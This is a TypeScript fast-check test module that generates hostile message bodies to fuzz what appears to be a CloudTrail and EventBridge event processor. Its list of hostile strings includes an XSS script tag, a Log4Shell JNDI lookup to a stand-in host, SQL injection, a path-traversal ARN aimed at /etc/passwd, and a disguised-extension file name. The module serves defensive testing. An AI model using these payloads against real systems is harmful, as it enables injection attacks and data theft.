import * as fc from 'fast-check';

/** Texts that break unescaped output: markup, mentions, control characters, names of JavaScript built-ins. */
export const hostileText = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    'null',
    'undefined',
    'NaN',
    '',
    ' ',
    '<!channel> <@U012AB3CD> @here',
    '[~accountid:5b10a2844c20165700ede21g] {code} h1. *bold* |table|',
    '<script>alert(1)</script> & &amp; <https://evil.example|click>',
    '\u202e\u2066gpj.exe\u2069 \u200f\u200b\ufeff',
    '\u0000\u0007\u001b[31mred\u001b]8;;https://evil.example\u0007link',
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n ' OR 1=1 --",
    'arn:aws:cloudtrail:eu-west-1:999999999999:trail/../../etc/passwd',
    'arn:aws:cloudtrail:eu-west-1:210987654321:trail/main',
    '9'.repeat(400),
    '\ud800 half a letter \udfff',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer({ min: 1, max: 8 }).map((power) => 'a\u0301<&'.repeat(4 ** power)),
);

const hostileValue = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, [], {}, [[]], { __proto__: null }),
  fc.jsonValue({ maxDepth: 3 }),
);

const call = {
  eventVersion: '1.11',
  eventTime: '2026-11-21T12:00:00Z',
  eventSource: 'cloudtrail.amazonaws.com',
  eventName: 'StopLogging',
  awsRegion: 'eu-west-1',
  sourceIPAddress: '203.0.113.7',
  userAgent: 'aws-cli/2.0',
  errorCode: 'AccessDenied',
  errorMessage: 'not authorized',
  userIdentity: {
    type: 'AssumedRole',
    arn: 'arn:aws:sts::210987654321:assumed-role/Admin/mallory',
    accountId: '210987654321',
    sessionContext: {
      sessionIssuer: { userName: 'Admin' },
      attributes: { creationDate: '2026-11-21T11:00:00Z' },
    },
  },
  requestParameters: { name: 'main' },
  eventID: '11111111-2222-3333-4444-555555555555',
  eventType: 'AwsApiCall',
  recipientAccountId: '210987654321',
};
const names = [
  'StopLogging',
  'StartLogging',
  'DeleteTrail',
  'UpdateTrail',
  'PutEventSelectors',
  'PutBucketPolicy',
  'LeaveOrganization',
];
const members = Object.keys(call);

/** A recorded call with hostile values in some members. */
const twistedCall = fc
  .tuple(
    fc.constantFrom(...names),
    fc.array(fc.tuple(fc.constantFrom(...members, '__proto__', 'extra'), hostileValue), { maxLength: 5 }),
    fc.dictionary(hostileText, hostileValue, { maxKeys: 4 }),
    fc.boolean(),
    fc.constantFrom('210987654321', '654321210987'),
  )
  .map(([eventName, twists, parameters, failed, recipientAccountId]) => {
    const { errorCode, errorMessage, ...rest } = call;
    const base = failed ? { ...rest, errorCode, errorMessage } : rest;
    const requestParameters = { ...base.requestParameters, ...parameters };
    const usual = { ...base, eventName, requestParameters, recipientAccountId };
    return { ...usual, ...Object.fromEntries(twists) };
  });

/** The call as an EventBridge message, whose envelope may be hostile too. */
const twistedMessage = fc
  .tuple(
    twistedCall,
    fc.array(
      fc.tuple(fc.constantFrom('account', 'region', 'detail-type', 'source', 'id', 'time'), hostileValue),
      { maxLength: 2 },
    ),
  )
  .map(([detail, twists]) => ({
    version: '0',
    id: 'e-1',
    'detail-type': 'AWS API Call via CloudTrail',
    source: 'aws.cloudtrail',
    account: detail.recipientAccountId,
    region: 'eu-west-1',
    time: '2026-11-21T12:00:01Z',
    resources: [],
    detail,
    ...Object.fromEntries(twists),
  }));

/** A body that resembles one of the product's own messages. */
const twistedRequest = fc.record(
  {
    account: fc.oneof(fc.constantFrom('210987654321', '654321210987'), hostileValue),
    regions: fc.oneof(fc.constant('all'), fc.constant(['eu-west-1']), hostileValue),
    why: fc.oneof(fc.constantFrom('event', 'sweep', 'look-again', 'member'), hostileValue),
    triggers: fc.oneof(fc.constant([]), fc.array(hostileValue, { maxLength: 3 })),
    incident: fc.oneof(fc.uuid(), hostileValue),
    destination: hostileValue,
    attempts: hostileValue,
  },
  { requiredKeys: [] },
);

/** Nested JSON of the maximum message size, 256 KB. */
const nested = fc
  .constantFrom(['[', ']'], ['{"a":', '}'], ['{"detail":', '}'], ['[', ''])
  .map(([open = '', close = '']) => {
    const depth = Math.floor((256 * 1024 - 8) / (open.length + close.length));
    return `${open.repeat(depth)}1${close.repeat(depth)}`;
  });

/** The bodies of hostile messages that an attacker could get into a queue. */
export const hostileBody: fc.Arbitrary<string> = fc.oneof(
  { weight: 40, arbitrary: twistedMessage.map((value) => JSON.stringify(value)) },
  { weight: 10, arbitrary: twistedCall.map((value) => JSON.stringify(value)) },
  { weight: 15, arbitrary: twistedRequest.map((value) => JSON.stringify(value)) },
  { weight: 10, arbitrary: fc.json() },
  { weight: 10, arbitrary: hostileText },
  { weight: 10, arbitrary: twistedMessage.map((value) => JSON.stringify(value).slice(0, -7)) },
  { weight: 1, arbitrary: nested },
);
